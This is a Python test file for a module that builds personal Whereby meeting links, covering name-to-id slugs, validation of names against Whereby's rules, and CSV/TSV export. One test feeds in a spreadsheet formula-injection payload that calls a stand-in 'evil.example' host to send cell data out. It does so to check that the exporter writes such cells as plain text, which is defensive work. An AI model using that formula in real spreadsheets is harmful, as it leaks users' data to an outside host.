"""Personal links: each person's name and id in the room's link, within Whereby's rules."""

from __future__ import annotations

import csv
import io
import re
from urllib.parse import parse_qs, parse_qsl, urlsplit

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from roomdesk.sessions.personal_links import (
    DISPLAY_NAME_FORBIDDEN,
    EXTERNAL_ID_MAX,
    FALLBACK_ID,
    LANGUAGES,
    LinkOptions,
    PersonalLinkError,
    as_csv,
    as_tsv,
    derive_external_id,
    name_problem,
    parse_names,
    people_problems,
    personal_links,
    spreadsheet_cell,
    unique_external_ids,
)
from tests.session_samples import HOST_LINK, LINK

VALID_ID = re.compile(r"[A-Za-z0-9_-]{1,36}")


def query(link: str) -> dict[str, list[str]]:
    return parse_qs(urlsplit(link).query, keep_blank_values=True)


def test_each_person_gets_the_room_link_with_their_name_and_an_id():
    made = personal_links(LINK, ["Jørn Ødegård", "Anne-Marie O'Neil"])
    assert [(link.name, link.external_id) for link in made] == [
        ("Jørn Ødegård", "jorn-odegard"),
        ("Anne-Marie O'Neil", "anne-marie-oneil"),
    ]
    first = made[0].link
    assert first.startswith(f"{LINK}?")
    assert query(first) == {"displayName": ["Jørn Ødegård"], "externalId": ["jorn-odegard"]}
    # A space is %20: every reader of a query decodes that the same way.
    assert "J%C3%B8rn%20%C3%98deg%C3%A5rd" in first


def test_options_add_the_language_and_turn_camera_and_microphone_off():
    (made,) = personal_links(
        LINK, ["Sam"], options=LinkOptions(lang="nb", camera_off=True, microphone_off=True)
    )
    assert query(made.link) == {
        "displayName": ["Sam"],
        "externalId": ["sam"],
        "lang": ["nb"],
        "video": ["off"],
        "audio": ["off"],
    }


def test_the_links_existing_query_stays_as_written_and_a_room_key_goes():
    link = f"{HOST_LINK}&embed&skin=a%2Fb&displayName=Old&LANG=en"
    (made,) = personal_links(link, ["Sam"], options=LinkOptions(lang="de"))
    assert urlsplit(made.link).query == ("embed&skin=a%2Fb&displayName=Sam&externalId=sam&lang=de")
    assert "roomKey" not in made.link and "host-secret" not in made.link


def test_the_language_codes_are_whereby_s_own():
    assert set(LANGUAGES) == {
        "cs", "zh-hant", "da", "nl", "en", "fr", "de", "el", "hi",
        "hu", "it", "jp", "nb", "pt", "pl", "es", "sv", "uk",
    }  # fmt: skip
    with pytest.raises(PersonalLinkError) as caught:
        personal_links(LINK, ["Sam"], options=LinkOptions(lang="ja"))
    assert caught.value.problems[0].startswith("“ja” is not a language Whereby offers")
    assert "jp (Japanese)" in caught.value.problems[0]


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("Zoë O'Brien", "zoe-obrien"),
        ("  Ana   María  ", "ana-maria"),
        ("Łukasz Żółć", "lukasz-zolc"),
        ("Æsa Straße", "aesa-strasse"),
        ("Dr. Who?", "dr-who"),
        ("snake_case-name", "snake_case-name"),
        ("李雷", FALLBACK_ID),
        ("---", FALLBACK_ID),
        ("A" * 50, "a" * 36),
        ("word " * 20, ("word-" * 8)[:36].rstrip("-")),
    ],
)
def test_an_id_is_made_from_the_name(name, expected):
    assert derive_external_id(name) == expected


def test_names_that_make_the_same_id_get_numbers():
    ids = unique_external_ids(["Ana María", "Ana Maria", "ana-maria", "李雷", "王芳", "X" * 40])
    assert ids == ["ana-maria", "ana-maria-2", "ana-maria-3", "person", "person-2", "x" * 36]
    long = unique_external_ids(["Y" * 40, "y" * 40, "Y" * 39])
    assert long == ["y" * 36, "y" * 34 + "-2", "y" * 34 + "-3"]
    assert all(len(external_id) <= EXTERNAL_ID_MAX for external_id in long)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(max_size=60), max_size=12))
def test_made_ids_are_always_valid_and_never_the_same(names):
    ids = unique_external_ids(names)
    assert len(ids) == len(names)
    assert all(VALID_ID.fullmatch(external_id) for external_id in ids)
    assert len({external_id.casefold() for external_id in ids}) == len(ids)


def test_names_are_one_a_line_trimmed_without_blank_lines():
    assert parse_names("  Sam Lee \n\n\t\nKim\r\n Jo  \n") == ["Sam Lee", "Kim", "Jo"]


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("Sam: host", "contains :; Whereby allows none of $ ! < > : ; in a name"),
        ("<b>Sam</b>", "contains < >;"),
        ("Cash$!", "contains ! $;"),
        ("x" * 101, "is 101 characters long; Whereby takes at most 100"),
        ("🙂" * 51, "is 102 characters long (some characters count as two); Whereby"),
        ("Sam\tLee", "contains a control or formatting character"),
        ("Sam\u202eeeL", "contains a control or formatting character"),
    ],
)
def test_a_name_outside_whereby_s_rules_is_refused_naming_it_and_the_rule(name, problem):
    with pytest.raises(PersonalLinkError) as caught:
        personal_links(LINK, ["Kim", name])
    (message,) = caught.value.problems
    assert message.startswith(f"“{name}” ")
    assert problem in message


def test_a_hundred_characters_are_allowed():
    (made,) = personal_links(LINK, ["x" * 100])
    assert query(made.link)["displayName"] == ["x" * 100]


def test_every_problem_is_named_at_once():
    with pytest.raises(PersonalLinkError) as caught:
        personal_links(LINK, ["a:b", "Sam", "sam ", "c;d"])
    assert caught.value.problems == [
        "“a:b” contains :; Whereby allows none of $ ! < > : ; in a name",
        "“sam ” is listed twice (as “Sam” before); give each person a name of their own",
        "“c;d” contains ;; Whereby allows none of $ ! < > : ; in a name",
    ]


def test_edited_ids_are_used_and_bad_or_shared_ones_refused_naming_the_person():
    made = personal_links(LINK, ["Sam", "Kim"], external_ids=["s-001", "K_002"])
    assert [query(link.link)["externalId"] for link in made] == [["s-001"], ["K_002"]]
    with pytest.raises(PersonalLinkError) as caught:
        personal_links(
            LINK, ["Sam", "Kim", "Jo", "Al"], external_ids=["same", "SAME", "jo id", "a" * 37]
        )
    assert caught.value.problems == [
        "the externalId of “Kim”, “SAME”, is also that of “Sam”; each person needs their own",
        "the externalId of “Jo”, “jo id”, may only hold A-Z, a-z, 0-9, '-' and '_'",
        f"the externalId of “Al”, “{'a' * 37}”, is 37 characters long; Whereby takes at most 36",
    ]


def test_each_person_s_problems_say_whether_the_name_or_the_id_is_wrong():
    found = people_problems(["Sam", "a:b", "sam", "Kim"], ["sam", "ab", "sam-2", "SAM"])
    assert [(bool(p.name), bool(p.external_id)) for p in found] == [
        (False, False),
        (True, False),
        (True, False),
        (False, True),
    ]
    assert found[2].name and found[2].name.startswith("“sam” is listed twice (as “Sam” before)")
    assert found[3].external_id == (
        "the externalId of “Kim”, “SAM”, is also that of “Sam”; each person needs their own"
    )


def test_no_names_is_a_problem_too():
    with pytest.raises(PersonalLinkError, match="no names given"):
        personal_links(LINK, [])


accepted_names = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",)), min_size=1, max_size=100
).filter(lambda name: name_problem(name) is None)


@settings(max_examples=500, deadline=None)
@given(
    st.lists(
        accepted_names, min_size=1, max_size=5, unique_by=lambda n: " ".join(n.split()).casefold()
    )
)
def test_any_accepted_name_comes_back_exactly_from_the_links_query(names):
    link = f"{LINK}?embed=on&x=%2B1"
    made = personal_links(link, names, options=LinkOptions(lang="en", microphone_off=True))
    for name, personal in zip(names, made, strict=True):
        pairs = parse_qsl(urlsplit(personal.link).query, keep_blank_values=True)
        assert pairs[:2] == [("embed", "on"), ("x", "+1")]
        assert dict(pairs)["displayName"] == name
        assert dict(pairs)["externalId"] == personal.external_id
        assert urlsplit(personal.link).path == urlsplit(LINK).path


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(max_size=120), max_size=4))
def test_any_names_make_links_or_a_list_of_problems_and_nothing_else(names):
    try:
        made = personal_links(LINK, names)
    except PersonalLinkError as error:
        assert error.problems and all(error.problems)
    else:
        assert len(made) == len(names)
        assert all(name_problem(name) is None for name in names)


@given(st.text(alphabet=DISPLAY_NAME_FORBIDDEN, min_size=1, max_size=3))
def test_every_forbidden_character_is_refused(bad):
    assume(bad.strip())
    assert name_problem(f"Sam{bad}") is not None


def test_the_lists_have_a_header_and_one_row_a_person():
    made = personal_links(LINK, ["Sam Lee", 'Kim "KJ", Jo'])
    tsv = as_tsv(made).splitlines()
    assert tsv[0] == "name\texternalId\tlink"
    assert tsv[1] == f"Sam Lee\tsam-lee\t{made[0].link}"
    assert len(tsv) == 3
    rows = list(csv.reader(io.StringIO(as_csv(made), newline="")))
    assert rows == [
        ["name", "externalId", "link"],
        ["Sam Lee", "sam-lee", made[0].link],
        ['Kim "KJ", Jo', "kim-kj-jo", made[1].link],
    ]
    assert as_csv(made).endswith("\r\n")
    assert "\r" not in as_csv(made, line_end="\n")


def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
    names = ['=WEBSERVICE("evil.example/?"&A1)', "+47 Sam", "-Kim", "@Jo", "Al = Al"]
    ids = ["x1", "x2", "x3", "-x4", "x5"]
    made = personal_links(LINK, names, external_ids=ids)
    expected = [
        ["name", "externalId", "link"],
        ['\'=WEBSERVICE("evil.example/?"&A1)', "x1", made[0].link],
        ["'+47 Sam", "x2", made[1].link],
        ["'-Kim", "x3", made[2].link],
        ["'@Jo", "'-x4", made[3].link],
        ["Al = Al", "x5", made[4].link],
    ]
    assert list(csv.reader(io.StringIO(as_csv(made), newline=""))) == expected
    assert [line.split("\t") for line in as_tsv(made).splitlines()] == expected
    # The links themselves still carry the names and ids as they are.
    assert query(made[3].link)["externalId"] == ["-x4"]


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_every_formula_start_is_made_text(text):
    assert spreadsheet_cell(text) == f"'{text}"
    assert spreadsheet_cell(f"Sam {text}") == f"Sam {text}"
